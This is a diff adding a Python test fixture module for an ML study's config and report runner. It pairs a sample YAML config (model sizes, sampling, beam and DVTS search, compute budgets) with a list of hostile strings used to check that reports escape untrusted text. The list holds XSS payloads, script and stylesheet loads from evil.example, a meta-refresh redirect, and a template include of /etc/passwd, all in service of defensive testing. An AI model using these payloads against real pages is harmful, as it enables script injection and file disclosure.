@@ -1,0 +1,72 @@
+"""A whole study for the tests of configuration and runner (the real ones: params.yaml, profiles/), and hostile text."""
+
+EXAMPLE = """\
+seed: 0
+problems:
+  n_maps: 14
+  n_values: 50
+  zipf_offset: 1.0
+  subjects: {chain: 0.2, inverse: 0.4, bridge: 0.2, route: 0.2}
+  hops: [0.25, 0.25, 0.25, 0.25]
+  n_train: 3000
+  n_val: 200
+  n_test: 400
+corpus: {tokens: 6000000, validation_tokens: 50000, wrong_guess: 0.4, retry: 0.8, astray: 0.3}
+models:
+  base: {n_layers: 4, width: 48, n_heads: 3, width_mlp: 128}
+  large: {n_layers: 5, width: 160, n_heads: 10, width_mlp: 432}
+pretrain: {max_length: 128, batch_tokens: 4096, lr_muon: 0.02, lr_adamw: 0.005, workers: 2, checkpoint_seconds: 60.0}
+sampling: {temperature: 0.8, top_p: 1.0, max_tokens: 100}
+generate:
+  base-train: {model: base, split: train, n_samples: 32}
+  base-val: {model: base, split: val, n_samples: 512}
+  base-test: {model: base, split: test, n_samples: 512}
+  large-test: {model: large, split: test, n_samples: 64}
+verifier:
+  samples: 8
+  rollouts: 8
+  epochs: 3
+  batch_tokens: 4096
+  lr_muon: 0.005
+  lr_adamw: 0.002
+  dropout: 0.05
+  validation_share: 0.1
+  workers: 2
+  checkpoint_seconds: 60.0
+select: {n_resamples: 200, flip_share: 0.2}
+difficulty: {n_bins: 5, n_probe: [1, 4, 8, 16, 32], absolute_edges: [0.1, 0.5]}
+search: {max_step_tokens: 16, max_rounds: 40, duplicates: keep}
+options:
+  beam_4: {kind: beam, width: 4, depth: 0}
+  beam_sqrt: {kind: beam, width: sqrt, depth: 0}
+  lookahead_1: {kind: lookahead, width: sqrt, depth: 1}
+  dvts: {kind: dvts, width: 4, depth: 0}
+grid:
+  budgets: [1, 2, 4, 8, 16, 32, 64, 128, 256, 512]
+  search_budgets: [4, 16, 64, 256]
+  methods: [beam_4, beam_sqrt, lookahead_1, dvts]
+compute_optimal: {fold_seeds: 50, n_bootstrap: 2000}
+flops_matched: {r_values: [0.16, 0.79, 22.0]}
+"""
+
+# What a model, or somebody's data file, may hold when it reaches a report.
+HOSTILE = [
+    "<script>document.title = 'owned'</script>",
+    "<img src=x onerror=alert(1)>",
+    "</pre></td></table><script src=//evil.example/x.js></script>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<a href=javascript:alert(1)>x</a> [y](javascript:alert(2)) ![z](https://evil.example/z.png)",
+    '"><iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
+    "<style>@import url(https://evil.example/x.css);</style><link rel=stylesheet href=https://evil.example/y.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
+    "<p style='background:url(https://evil.example/p.png)' onclick=alert(1)>x</p>",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;script&#x3E;",
+    "{{ 7 * 7 }} {% include '/etc/passwd' %}",
+    "$\\text{<script>alert(1)</script>}$ $\\href{javascript:alert(1)}{x}$",
+    "a\x00b\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \u202etxet",
+    "```mermaid\n<script>alert(1)</script>\n```",
+    "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>",
+    "<!--><script>alert(1)</script>-->",
+    "<div",
+]
